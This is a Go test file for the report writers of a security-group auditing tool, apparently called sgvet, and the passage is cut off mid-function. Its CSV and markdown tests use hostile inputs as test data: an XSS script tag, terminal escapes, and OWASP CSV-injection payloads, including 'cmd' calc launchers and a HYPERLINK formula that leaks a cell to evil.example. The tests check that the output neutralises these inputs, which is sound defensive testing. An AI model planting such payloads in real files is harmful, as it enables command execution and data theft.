package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/sgvet/sgvet/collector"
	"github.com/sgvet/sgvet/reputation"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// fixtureDay returns a time on the day of the fixture's run, in UTC.
func fixtureDay(hour, minute, second int) time.Time {
	return time.Date(2026, 11, 21, hour, minute, second, 0, time.UTC)
}

func fixtureDate(year int, month time.Month, d int) *time.Time {
	t := time.Date(year, month, d, 0, 0, 0, 0, time.UTC)
	return &t
}

func fixtureScore(n int) *int { return &n }

func fixtureVerdict(provider, target string, status reputation.Status) reputation.Verdict {
	return reputation.Verdict{
		Provider:  provider,
		Target:    reputation.PrefixTarget(netip.MustParsePrefix(target)),
		Status:    status,
		CheckedAt: fixtureDay(9, 1, 0),
	}
}

// reportFixture returns a report with a finding of every kind and severity, verdicts from two
// providers, a new rule, gone rules, skipped regions and hostile text.
func reportFixture() *Report {
	md := fixtureVerdict("metadefender", "203.0.113.7/32", reputation.Malicious)
	md.Score = fixtureScore(2)
	md.Categories = []string{"botnet", "scanner"}
	md.Country = "NL"
	md.Evidence = "listed by 2 of 21 sources (webroot, firehol); see https://metadefender.com/results/ip/203.0.113.7"
	bl := fixtureVerdict("blocklist", "203.0.113.7/32", reputation.Malicious)
	bl.Evidence = "listed in firehol_level1.netset"
	bl.Cached = true

	md2 := fixtureVerdict("metadefender", "198.51.100.23/32", reputation.Malicious)
	md2.Score = fixtureScore(1)
	md2.Evidence = "listed by 1 of 21 sources (spamhaus)"
	bl2 := fixtureVerdict("blocklist", "198.51.100.23/32", reputation.Clean)

	md3 := fixtureVerdict("metadefender", "192.0.2.80/32", reputation.Suspicious)
	md3.Score = fixtureScore(0)
	md3.Evidence = "seen scanning by 1 source"
	bl3 := fixtureVerdict("blocklist", "192.0.2.80/32", reputation.Clean)

	md4 := fixtureVerdict("metadefender", "203.0.113.99/32", reputation.Unknown)
	md4.Reason = "daily quota reached"
	bl4 := fixtureVerdict("blocklist", "203.0.113.99/32", reputation.Unknown)
	bl4.Reason = "blocklist not loaded"

	base := Finding{ref: &RuleRef{Account: "111111111111", Region: "eu-west-1", GroupID: "sg-0a1b2c3d4e5f60718", GroupName: "bastion", Direction: "ingress", Protocol: "tcp"}}
	f := func(kind Kind, sev Severity, edit func(*Finding)) Finding {
		x := base
		ref := *base.ref
		x.ref, x.Kind, x.Severity = &ref, kind, sev
		edit(&x)
		return x
	}
	findings := []Finding{
		f(SuspiciousSource, Critical, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd44", "22", "203.0.113.7/32", "office vpn"
			x.reasons = []string{"metadefender and blocklist say 203.0.113.7 is malicious", "the rule allows ingress to an administration port (22)"}
			x.Verdicts = []reputation.Verdict{md, bl}
			x.FirstSeen = fixtureDate(2025, 1, 14)
		}),
		f(OpenToWorld, Critical, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd45", "3389", "0.0.0.0/0", "<script>alert(1)</script>"
			x.reasons = []string{"ingress from the whole internet to an administration port (3389)"}
			x.FirstSeen = fixtureDate(2026, 2, 3)
		}),
		f(SuspiciousSource, High, func(x *Finding) {
			x.ref.GroupID, x.ref.GroupName = "sg-0f9e8d7c6b5a49382", "web"
			x.ref.RuleID, x.ref.Direction, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0ee55ff66aa77bb88", "egress", "443", "198.51.100.23/32", `=HYPERLINK("http://x")`
			x.reasons = []string{"metadefender says 198.51.100.23 is malicious"}
			x.Verdicts = []reputation.Verdict{md2, bl2}
			x.FirstSeen = fixtureDate(2026, 11, 21)
			x.Change = New
		}),
		f(OpenToWorld, High, func(x *Finding) {
			x.ref.GroupID, x.ref.GroupName = "sg-0f9e8d7c6b5a49382", "web"
			x.ref.RuleID, x.ref.Protocol, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0ee55ff66aa77bb89", "all", "all", "::/0", "everything, for now"
			x.reasons = []string{"ingress from the whole internet on all ports"}
		}),
		f(StaleSource, Medium, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd46", "5432", "198.51.100.0/28", "temp access | until 2025-06-30\nask Bob"
			x.reasons = []string{"the description says until 2025-06-30, which has passed", "the description has a temporary marker (temp) and the rule was first seen 656 days ago"}
			x.FirstSeen = fixtureDate(2025, 2, 3)
		}),
		f(SuspiciousSource, Medium, func(x *Finding) {
			x.ref.Account, x.ref.Region = "222222222222", "us-east-1"
			x.ref.GroupID, x.ref.GroupName = "sg-01234567890abcdef", "partners"
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-01234567890abcdef", "8000-8080", "192.0.2.80/32", "-partner api"
			x.reasons = []string{"metadefender says 192.0.2.80 is suspicious"}
			x.Verdicts = []reputation.Verdict{md3, bl3}
		}),
		f(WideRange, Medium, func(x *Finding) {
			x.ref.Account, x.ref.Region = "222222222222", "us-east-1"
			x.ref.GroupID, x.ref.GroupName = "sg-01234567890abcdef", "partners"
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-01234567890abcdf0", "443", "45.0.0.0/12", "+cdn ranges"
			x.reasons = []string{"45.0.0.0/12 holds 1048576 addresses, more than 256"}
		}),
		f(ICMPOpen, Medium, func(x *Finding) {
			x.ref.RuleID, x.ref.Protocol, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd47", "icmp", "type 8", "0.0.0.0/0", "@ping"
			x.reasons = []string{"ICMP echo from the whole internet"}
		}),
		f(DefaultGroupInUse, Medium, func(x *Finding) {
			x.ref.GroupID, x.ref.GroupName, x.ref.Direction, x.ref.Protocol = "sg-0d0d0d0d0d0d0d0d0", "default", "", ""
			x.reasons = []string{"the default group of vpc-0123456789abcdef0 has 2 rules", "it is attached to 3 network interfaces"}
		}),
		f(StaleSource, Low, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd48", "22", "203.0.113.50/32", "John's home \x1b[2J"
			x.reasons = []string{"the description has a personal marker (John's, home) and the rule was first seen 300 days ago"}
			x.FirstSeen = fixtureDate(2026, 1, 25)
		}),
		f(StaleSource, Low, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR = "sgr-0aa11bb22cc33dd49", "443", "203.0.113.51/32"
			x.reasons = []string{"the rule has no description"}
		}),
		f(OpenEgress, Low, func(x *Finding) {
			x.ref.RuleID, x.ref.Direction, x.ref.Protocol, x.ref.PortRange, x.ref.CIDR = "sgr-0aa11bb22cc33dd4a", "egress", "all", "all", "0.0.0.0/0"
			x.reasons = []string{"egress to the whole internet on all ports"}
		}),
		f(OpenToWorld, Low, func(x *Finding) {
			x.ref.GroupID, x.ref.GroupName = "sg-0f9e8d7c6b5a49382", "web"
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0ee55ff66aa77bb8a", "80", "0.0.0.0/0", "http"
			x.reasons = []string{"ingress from the whole internet to a web port (80)"}
		}),
		f(StaleSource, Low, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR = "sg-0a1b2c3d4e5f60718:ingress:tcp:22:pl-0c0ffee1234567890", "22", "81.2.69.142/32"
			x.ref.PrefixList = &collector.PrefixListRef{ID: "pl-0c0ffee1234567890", Name: "office-ranges", Owner: "111111111111", EntryDescription: "Alice home until 2025-03-01"}
			x.reasons = []string{"the prefix list entry says until 2025-03-01, which has passed"}
		}),
		f(Unvetted, Info, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR, x.ref.Description = "sgr-0aa11bb22cc33dd4b", "443", "203.0.113.99/32", "monitoring"
			x.reasons = []string{"no provider could answer for 203.0.113.99"}
			x.Verdicts = []reputation.Verdict{md4, bl4}
		}),
		f(InvalidRule, Info, func(x *Finding) {
			x.ref.RuleID, x.ref.PortRange, x.ref.CIDR = "sgr-0aa11bb22cc33dd4c", "22", "10.0.0.300/32"
			x.ref.Invalid = &collector.Invalid{Field: collector.FieldCIDR, Text: "10.0.0.300/32", Reason: "not an IP prefix"}
			x.reasons = []string{"the rule could not be parsed, so it was not audited"}
		}),
	}

	r := &Report{
		Schema: Schema,
		Run: Run{
			ID:       "20261121T090000Z-4f2a",
			Started:  fixtureDay(9, 0, 0),
			Finished: fixtureDay(9, 3, 12),
			Sources:  []string{"aws", "examples/security-groups.json"},
			Regions:  []string{"eu-west-1", "us-east-1"},
			Accounts: []string{"111111111111", "222222222222"},
			Providers: []ProviderRun{
				{Provider: "metadefender", Lookups: 9, Answered: 8, CacheHits: 3, Unknown: 1, Errors: 1, Stopped: "daily quota reached (4000 lookups)"},
				{Provider: "blocklist", Lookups: 0, Answered: 12},
			},
			Skipped: []collector.Skipped{
				{Account: "222222222222", Region: "ap-south-1", Reason: "UnauthorizedOperation: You are not authorized to perform this operation."},
				{Account: "111111111111", Region: "me-central-1", Reason: "the region is not enabled (OptInRequired)"},
			},
			Unknown: []collector.UnknownContext{
				{Account: "222222222222", Region: "us-east-1", Context: collector.ContextStaleReferences,
					Reason: "UnauthorizedOperation: You are not authorized to perform this operation. (ec2:DescribeStaleSecurityGroups)"},
			},
			Previous: "20261114T090000Z-9c1d",
		},
		Summary: Summary{
			ByKind:            map[Kind]int{},
			BySeverity:        map[Severity]int{},
			AddressesTotal:    12,
			AddressesVetted:   11,
			AddressesUnvetted: 1,
			RulesNew:          1,
			RulesGone:         2,
		},
		Findings: findings,
		New: []NewRule{
			{RuleRef: RuleRef{Account: "111111111111", Region: "eu-west-1", GroupID: "sg-0a1b2c3d4e5f60718", GroupName: "bastion",
				RuleID: "sgr-0aa11bb22cc33dd41", Direction: "ingress", Protocol: "tcp", PortRange: "22", CIDR: "203.0.113.9/32", Description: "new vendor, exp 2026-12-31"},
				FirstSeen: fixtureDay(0, 0, 0)},
		},
		Gone: []GoneRule{
			{RuleRef: RuleRef{Account: "111111111111", Region: "eu-west-1", GroupID: "sg-0a1b2c3d4e5f60718", GroupName: "bastion",
				RuleID: "sgr-0aa11bb22cc33dd40", Direction: "ingress", Protocol: "tcp", PortRange: "22", CIDR: "198.51.100.77/32", Description: "contractor laptop"},
				FirstSeen: fixtureDay(0, 0, 0).AddDate(0, -7, 0), LastSeen: fixtureDay(0, 0, 0).AddDate(0, 0, -7)},
			{RuleRef: RuleRef{Account: "222222222222", Region: "us-east-1", GroupID: "sg-01234567890abcdef", GroupName: "partners",
				RuleID: "sgr-01234567890abcde0", Direction: "ingress", Protocol: "udp", PortRange: "500", CIDR: "192.0.2.0/24"},
				FirstSeen: fixtureDay(0, 0, 0).AddDate(-1, 0, 0), LastSeen: fixtureDay(0, 0, 0).AddDate(0, 0, -7)},
		},
	}
	r.Summary.ByAccount = map[string]map[Severity]int{}
	for _, a := range r.Run.Accounts {
		r.Summary.ByAccount[a] = map[Severity]int{Critical: 0, High: 0, Medium: 0, Low: 0, Info: 0}
	}
	for _, f := range findings {
		r.Summary.ByKind[f.Kind]++
		r.Summary.BySeverity[f.Severity]++
		r.Summary.ByAccount[f.Ref().Account][f.Severity]++
	}
	return r
}

// emptyReportFixture returns a report of a complete run that found nothing.
func emptyReportFixture() *Report {
	return &Report{
		Schema: Schema,
		Run:    Run{ID: "20261121T100000Z-0000", Started: fixtureDay(10, 0, 0), Finished: fixtureDay(10, 0, 4)},
	}
}

// renderFormat writes r in format and returns the output.
func renderFormat(t *testing.T, format string, opts WriterOptions, r *Report) []byte {
	t.Helper()
	w, err := NewWriter(format, opts)
	if err != nil {
		t.Fatalf("NewWriter(%q) error: %v", format, err)
	}
	var b bytes.Buffer
	if err := w.Write(&b, r); err != nil {
		t.Fatalf("Write(%s) error: %v", format, err)
	}
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	for _, tt := range []struct{ format, file string }{
		{"table", "report.txt"},
		{"json", "report.json"},
		{"csv", "report.csv"},
		{"markdown", "report.md"},
		{"html", "report.html"},
	} {
		t.Run(tt.format, func(t *testing.T) {
			r := reportFixture()
			got := renderFormat(t, tt.format, WriterOptions{}, r)
			if !reflect.DeepEqual(r, reportFixture()) {
				t.Errorf("Write(%s) modified the report", tt.format)
			}
			path := filepath.Join("testdata", "golden", tt.file)
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test -run Golden -update to create it)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("Write(%s) differs from %s (run go test -run Golden -update if the change is intended):\n%s",
					tt.format, path, goldenDifference(got, want))
			}
		})
	}
}

// goldenDifference describes the first line where got and want differ.
func goldenDifference(got, want []byte) string {
	g := strings.Split(string(got), "\n")
	w := strings.Split(string(want), "\n")
	for i := 0; i < len(g) || i < len(w); i++ {
		var gl, wl string
		if i < len(g) {
			gl = g[i]
		}
		if i < len(w) {
			wl = w[i]
		}
		if gl != wl || i >= len(g) || i >= len(w) {
			return "line " + strconv.Itoa(i+1) + ":\n got: " + gl + "\nwant: " + wl
		}
	}
	return "(no line differs)"
}

func TestNewWriterUnknownFormat(t *testing.T) {
	w, err := NewWriter("xml", WriterOptions{})
	if err == nil {
		t.Fatalf("NewWriter(%q) = %v, want an error", "xml", w)
	}
	msg := err.Error()
	for _, want := range append([]string{`"xml"`}, Formats...) {
		if !strings.Contains(msg, want) {
			t.Errorf("NewWriter(%q) error = %q, want it to name %s", "xml", msg, want)
		}
	}
}

func TestWriteEveryFormat(t *testing.T) {
	for _, format := range Formats {
		if _, err := NewWriter(format, WriterOptions{}); err != nil {
			t.Errorf("NewWriter(%q) error: %v", format, err)
		}
	}
}

func TestWriteEmptyReport(t *testing.T) {
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			out := string(renderFormat(t, format, WriterOptions{}, emptyReportFixture()))
			switch format {
			case "table", "markdown", "html":
				if !strings.Contains(strings.ToLower(out), "no findings") {
					t.Errorf("Write(%s) of an empty report = %q, want it to say no findings", format, out)
				}
			case "json":
				if strings.Contains(out, "null") {
					t.Errorf("Write(json) of an empty report has a null:\n%s", out)
				}
				for _, want := range []string{`"findings": []`, `"gone": []`, `"skipped": []`, `"providers": []`, `"by_kind": {}`} {
					if !strings.Contains(out, want) {
						t.Errorf("Write(json) of an empty report lacks %s:\n%s", want, out)
					}
				}
			case "csv":
				rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
				if err != nil || len(rows) != 1 {
					t.Errorf("Write(csv) of an empty report = %q (%v), want the header row only", out, err)
				}
			}
		})
	}
}

func TestWriteJSONRoundTrip(t *testing.T) {
	for name, r := range map[string]*Report{"fixture": reportFixture(), "empty": emptyReportFixture()} {
		t.Run(name, func(t *testing.T) {
			out := renderFormat(t, "json", WriterOptions{}, r)
			var top map[string]any
			if err := json.Unmarshal(out, &top); err != nil {
				t.Fatal(err)
			}
			if top["schema"] != "sgvet.report/v1" {
				t.Errorf(`schema = %v, want "sgvet.report/v1"`, top["schema"])
			}
			var got Report
			if err := json.Unmarshal(out, &got); err != nil {
				t.Fatal(err)
			}
			want := withEmptyLists(r)
			if !reflect.DeepEqual(&got, want) {
				g, _ := json.Marshal(&got)
				w, _ := json.Marshal(want)
				t.Errorf("JSON round trip:\n got %s\nwant %s", g, w)
			}
		})
	}
}

// withEmptyLists returns a copy of r whose nil lists and maps are empty.
func withEmptyLists(r *Report) *Report {
	c := *r
	if c.Run.Sources == nil {
		c.Run.Sources = []string{}
	}
	if c.Run.Regions == nil {
		c.Run.Regions = []string{}
	}
	if c.Run.Accounts == nil {
		c.Run.Accounts = []string{}
	}
	if c.Run.Providers == nil {
		c.Run.Providers = []ProviderRun{}
	}
	if c.Run.Skipped == nil {
		c.Run.Skipped = []collector.Skipped{}
	}
	if c.Run.Unknown == nil {
		c.Run.Unknown = []collector.UnknownContext{}
	}
	if c.Summary.ByKind == nil {
		c.Summary.ByKind = map[Kind]int{}
	}
	if c.Summary.BySeverity == nil {
		c.Summary.BySeverity = map[Severity]int{}
	}
	if c.Summary.ByAccount == nil {
		c.Summary.ByAccount = map[string]map[Severity]int{}
	}
	if c.Findings == nil {
		c.Findings = []Finding{}
	}
	if c.New == nil {
		c.New = []NewRule{}
	}
	if c.Gone == nil {
		c.Gone = []GoneRule{}
	}
	return &c
}

// TestWriteJSONNoNull: lists are never null in the JSON. Only the context that could not
// be had is: reachable, added_by and added_at, as the report's schema says.
func TestWriteJSONNoNull(t *testing.T) {
	r := reportFixture()
	r.Run.Sources, r.Run.Skipped, r.Gone = nil, nil, nil
	r.Findings[0].reasons = nil
	out := string(renderFormat(t, "json", WriterOptions{}, r))
	for _, line := range strings.Split(out, "\n") {
		if !strings.Contains(line, "null") {
			continue
		}
		if field, _, _ := strings.Cut(strings.TrimSpace(line), ":"); !slices.Contains([]string{`"reachable"`, `"added_by"`, `"added_at"`}, field) {
			t.Errorf("Write(json) has a null: %s", line)
		}
	}
	if r.Run.Sources != nil || r.Findings[0].reasons != nil {
		t.Error("Write(json) modified the report")
	}
}

func TestWriteTableWidth(t *testing.T) {
	for _, width := range []int{60, 80, 120, 160} {
		for name, r := range map[string]*Report{"fixture": reportFixture(), "empty": emptyReportFixture()} {
			t.Run(name+"/"+strconv.Itoa(width), func(t *testing.T) {
				out := string(renderFormat(t, "table", WriterOptions{Width: width}, r))
				for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
					// Only a word longer than a line may make it longer: it is never cut.
					if n := utf8.RuneCountInString(line); n > width && len(strings.Fields(line)) > 1 {
						t.Errorf("line %d is %d characters wide, more than %d: %q", i+1, n, width, line)
					}
					if strings.IndexFunc(line, unicode.IsControl) >= 0 {
						t.Errorf("line %d has a control character: %q", i+1, line)
					}
				}
				if name == "fixture" {
					for _, want := range []string{"CRITICAL: 2 findings", "INFO: 2 findings", "new", "INCOMPLETE", "ap-south-1"} {
						if !strings.Contains(out, want) {
							t.Errorf("table at width %d lacks %q:\n%s", width, want, out)
						}
					}
				}
			})
		}
	}
}

// collapsed returns s with every run of white space, line breaks included, as one space:
// a text wrapped over several lines reads as it did on one.
func collapsed(s string) string { return strings.Join(strings.Fields(s), " ") }

// TestWriteTableNothingCut renders the table at several widths and checks that every
// description, reason, group, rule and prefix list is there whole at each, and that
// nothing is cut with "…".
func TestWriteTableNothingCut(t *testing.T) {
	r := reportFixture()
	r.Findings[1].ref.Description = "break-glass access for the on-call engineer during the datacenter migration, remove after cutover"
	r.Findings[2].ref.GroupName = "payments-gateway-production-public-load-balancer"
	var wants []string
	for _, f := range r.Findings {
		wants = append(wants, f.Reasons()...)
		wants = append(wants, f.Ref().GroupName, f.Ref().GroupID, f.Ref().RuleID, f.Ref().Description, f.Ref().CIDR)
		if f.Ref().PrefixList != nil {
			wants = append(wants, f.Ref().PrefixList.ID, f.Ref().PrefixList.Name, f.Ref().PrefixList.EntryDescription)
		}
	}
	for _, width := range []int{0, 40, 60, 80, 120, 200} {
		t.Run(strconv.Itoa(width), func(t *testing.T) {
			out := string(renderFormat(t, "table", WriterOptions{Width: width}, r))
			if strings.Contains(out, "…") {
				t.Errorf("table at width %d cuts a text:\n%s", width, out)
			}
			flat := collapsed(out)
			for _, want := range wants {
				if want = collapsed(OneLine(want)); want != "" && !strings.Contains(flat, want) {
					t.Errorf("table at width %d lacks %q:\n%s", width, want, out)
				}
			}
		})
	}
}

// keepFindings keeps the findings of r that keep says to, and returns r.
func keepFindings(r *Report, keep func(RuleRef) bool) *Report {
	var kept []Finding
	for _, f := range r.Findings {
		if keep(f.Ref()) {
			kept = append(kept, f)
		}
	}
	r.Findings = kept
	return r
}

// oneAccountFixture returns the fixture with only the findings and accounts of 111111111111.
func oneAccountFixture() *Report {
	one := keepFindings(reportFixture(), func(ref RuleRef) bool { return ref.Account == "111111111111" })
	one.Run.Accounts = []string{"111111111111"}
	delete(one.Summary.ByAccount, "222222222222")
	return one
}

func TestWriteTableAccount(t *testing.T) {
	fromFindings := reportFixture()
	fromFindings.Run.Accounts = nil
	for _, tt := range []struct {
		name string
		r    *Report
		want bool
	}{
		{"one account", oneAccountFixture(), false},
		{"accounts of the run", reportFixture(), true},
		{"accounts of the findings", fromFindings, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out := string(renderFormat(t, "table", WriterOptions{Width: 200}, tt.r))
			if got := strings.Contains(out, "ACCOUNT"); got != tt.want {
				t.Errorf("Write(table, %q) shows the ACCOUNT column = %v, want %v:\n%s", tt.name, got, tt.want, out)
			}
			if got := strings.Contains(out, "by account:"); got != tt.want && tt.r.Run.Accounts != nil {
				t.Errorf("Write(table, %q) counts by account = %v, want %v:\n%s", tt.name, got, tt.want, out)
			}
		})
	}
}

func TestWriteTableRegion(t *testing.T) {
	one := keepFindings(reportFixture(), func(ref RuleRef) bool { return ref.Region == "eu-west-1" })
	one.Run.Regions = []string{"eu-west-1"}
	fromFindings := reportFixture()
	fromFindings.Run.Regions = nil
	for _, tt := range []struct {
		name string
		r    *Report
		want bool
	}{
		{"one region", one, false},
		{"regions of the run", reportFixture(), true},
		{"regions of the findings", fromFindings, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			out := string(renderFormat(t, "table", WriterOptions{Width: 200}, tt.r))
			if got := strings.Contains(out, "REGION"); got != tt.want {
				t.Errorf("REGION column shown = %v, want %v:\n%s", got, tt.want, out)
			}
		})
	}
}

func TestWriteTableOrder(t *testing.T) {
	out := string(renderFormat(t, "table", WriterOptions{Width: 160}, reportFixture()))
	last := -1
	for _, s := range Severities {
		i := strings.Index(out, strings.ToUpper(string(s))+":")
		if i < 0 || i < last {
			t.Fatalf("severity headings out of order at %s:\n%s", s, out)
		}
		last = i
	}
}

func TestWriteCSV(t *testing.T) {
	r := reportFixture()
	rows, err := csv.NewReader(bytes.NewReader(renderFormat(t, "csv", WriterOptions{}, r))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// A header, a row per finding, a row per part of the estate skipped, and a row per
	// context unknown.
	if want := 1 + len(r.Findings) + len(r.Run.Skipped) + len(r.Run.Unknown); len(rows) != want {
		t.Fatalf("CSV has %d rows, want %d", len(rows), want)
	}
	for i, sk := range r.Run.Skipped {
		row := rows[1+len(r.Findings)+i]
		if row[1] != "skipped" || row[2] != sk.Account || row[3] != sk.Region || !strings.Contains(row[12], sk.Reason) {
			t.Errorf("CSV row for skipped %+v = %q, want kind skipped, its account, region and reason", sk, row)
		}
	}
	for i, u := range r.Run.Unknown {
		row := rows[1+len(r.Findings)+len(r.Run.Skipped)+i]
		if row[1] != "unknown-context" || row[2] != u.Account || row[3] != u.Region || !strings.Contains(row[12], u.Context+" unknown") || !strings.Contains(row[12], u.Reason) {
			t.Errorf("CSV row for unknown context %+v = %q, want kind unknown-context, its account, region, context and reason", u, row)
		}
	}
	if !reflect.DeepEqual(rows[0], csvHeader) {
		t.Errorf("header = %q, want %q", rows[0], csvHeader)
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	descriptions := map[string]bool{}
	for _, row := range rows[1:] {
		descriptions[row[col["description"]]] = true
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %s = %q starts a formula", rows[0][i], cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK("http://x")`, "'-partner api", "'+cdn ranges", "'@ping"} {
		if !descriptions[want] {
			t.Errorf("no description cell %q in %v", want, descriptions)
		}
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsRune(cell, 0x1b) {
				t.Errorf("cell %q has a terminal escape", cell)
			}
		}
	}
	first := rows[1]
	if got, want := first[col["verdicts"]], "metadefender: malicious (score 2); blocklist: malicious"; got != want {
		t.Errorf("verdicts = %q, want %q", got, want)
	}
	if got, want := first[col["reasons"]], strings.Join(r.Findings[0].Reasons(), " | "); got != want {
		t.Errorf("reasons = %q, want %q", got, want)
	}
	if got, want := first[col["first_seen"]], "2025-01-14"; got != want {
		t.Errorf("first_seen = %q, want %q", got, want)
	}
}

func TestWriteCSVNoFormula(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"", ""},
		{"office", "office"},
		{"a=b", "a=b"},
		{"10.0.0.0/8", "10.0.0.0/8"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-2", "'-2"},
		{"-1", "'-1"},
		{"-5-3", "'-5-3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"\nx", "'\nx"},
		// OWASP CSV injection payloads.
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{"\n=cmd|' /C calc'!A0", "'\n=cmd|' /C calc'!A0"},
		{" =cmd", "' =cmd"},
		{"   +cmd", "'   +cmd"},
		{"\t\t-cmd", "'\t\t-cmd"},
		{"\x00=cmd", "'\x00=cmd"},
		{"\u00a0@SUM(1+9)*cmd|' /C calc'!A0", "'\u00a0@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\u200b=1", "'\u200b=1"},
		{"\ufeff=1", "'\ufeff=1"},
		{`=HYPERLINK("http://evil.example?leak="&A1,"click")`, `'=HYPERLINK("http://evil.example?leak="&A1,"click")`},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"office =1", "office =1"},
	} {
		if got := noFormula(tt.in); got != tt.want {
			t.Errorf("noFormula(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteCSVEveryColumnGuarded puts a formula into every text field of a finding and
// checks that no cell of the CSV starts one.
func TestWriteCSVEveryColumnGuarded(t *testing.T) {
	for _, payload := range []string{"=1+1", "\n=cmd|' /C calc'!A0", " =cmd", "-5-3", "@x", "+1"} {
		t.Run(payload, func(t *testing.T) {
			f := Finding{
				Kind: Kind(payload), Severity: Severity(payload),
				ref: &RuleRef{Account: payload, Region: payload, GroupID: payload, GroupName: payload, RuleID: payload,
					Direction: payload, Protocol: payload, PortRange: payload, CIDR: payload, Description: payload,
					PrefixList: &collector.PrefixListRef{ID: payload, Name: payload, EntryDescription: payload},
					Invalid:    &collector.Invalid{Field: collector.RuleField(payload), Text: payload, Reason: payload}},
				reasons:  []string{payload},
				Verdicts: []reputation.Verdict{{Provider: payload, Status: reputation.Status(payload)}},
				Change:   Change(payload),
			}
			rows, err := csv.NewReader(bytes.NewReader(renderFormat(t, "csv", WriterOptions{}, &Report{Findings: []Finding{f}}))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			for i, cell := range rows[1] {
				if c := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) }); c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
					t.Errorf("column %s = %q starts a formula", csvHeader[i], cell)
				}
			}
		})
	}
}

func TestWriteMarkdown(t *testing.T) {
	out := string(renderFormat(t, "markdown", WriterOptions{}, reportFixture()))
	for _, want := range []string{
		`temp access \| until 2025-06-30 ask Bob`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		"# sgvet report",
		"## Critical (2)",
		"## Gone (2)",
		"## Skipped",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("markdown lacks %q", want)
		}
	}
	if strings.Contains(out, "<script>") || strings.Contains(out, "\x1b") {
		t.Error("markdown has raw <script> or a terminal escape")
	}
	// Every row of a table has as many cells as its header.
	cells := 0
	for i, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "|") {
			cells = 0
			continue
		}
		n := unescapedPipes(line)
		if cells == 0 {
			cells = n
		} else if n != cells {
			t.Errorf("line %d has %d cell separators, want %d: %q", i+1, n, cells, line)
		}
	}
}

// unescapedPipes counts the pipes of line not escaped by a backslash.
func unescapedPipes(line string) int {
	n, backslashes := 0, 0
	for _, r := range line {
		switch {
		case r == '\\':
			backslashes++
			continue
		case r == '|' && backslashes%2 == 0:
			n++
		}
		backslashes = 0
	}
	return n
}

func TestWriteMarkdownEscape(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"a | b", `a \| b`},
		{"line\nbreak", "line break"},
		{"<b>&", "&lt;b&gt;&amp;"},
		{"`code`", "\\`code\\`"},
		{`back\`, `back\\`},
		{"[x](http://e)", `\[x\](http://e)`},
		{"*bold* _it_", `\*bold\* \_it\_`},
	} {
		if got := mdEscape(tt.in); got != tt.want {
			t.Errorf("mdEscape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestWriteJSONStreamsAsOneDocument: the streamed report is the document that encoding
// the whole report at once gives, for none, one and several findings, and for text that
// looks like the findings field.
func TestWriteJSONStreamsAsOneDocument(t *testing.T) {
	tricky := reportFixture()
	tricky.Findings[0].ref.Description = "\n  \"findings\": []"
	for name, r := range map[string]*Report{"fixture": reportFixture(), "empty": emptyReportFixture(), "tricky": tricky, "one": func() *Report {
		r := reportFixture()
		r.Findings = r.Findings[:1]
		return r
	}()} {
		t.Run(name, func(t *testing.T) {
			c := normalized(r)
			want, err := json.MarshalIndent(c, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			want = append(want, '\n')
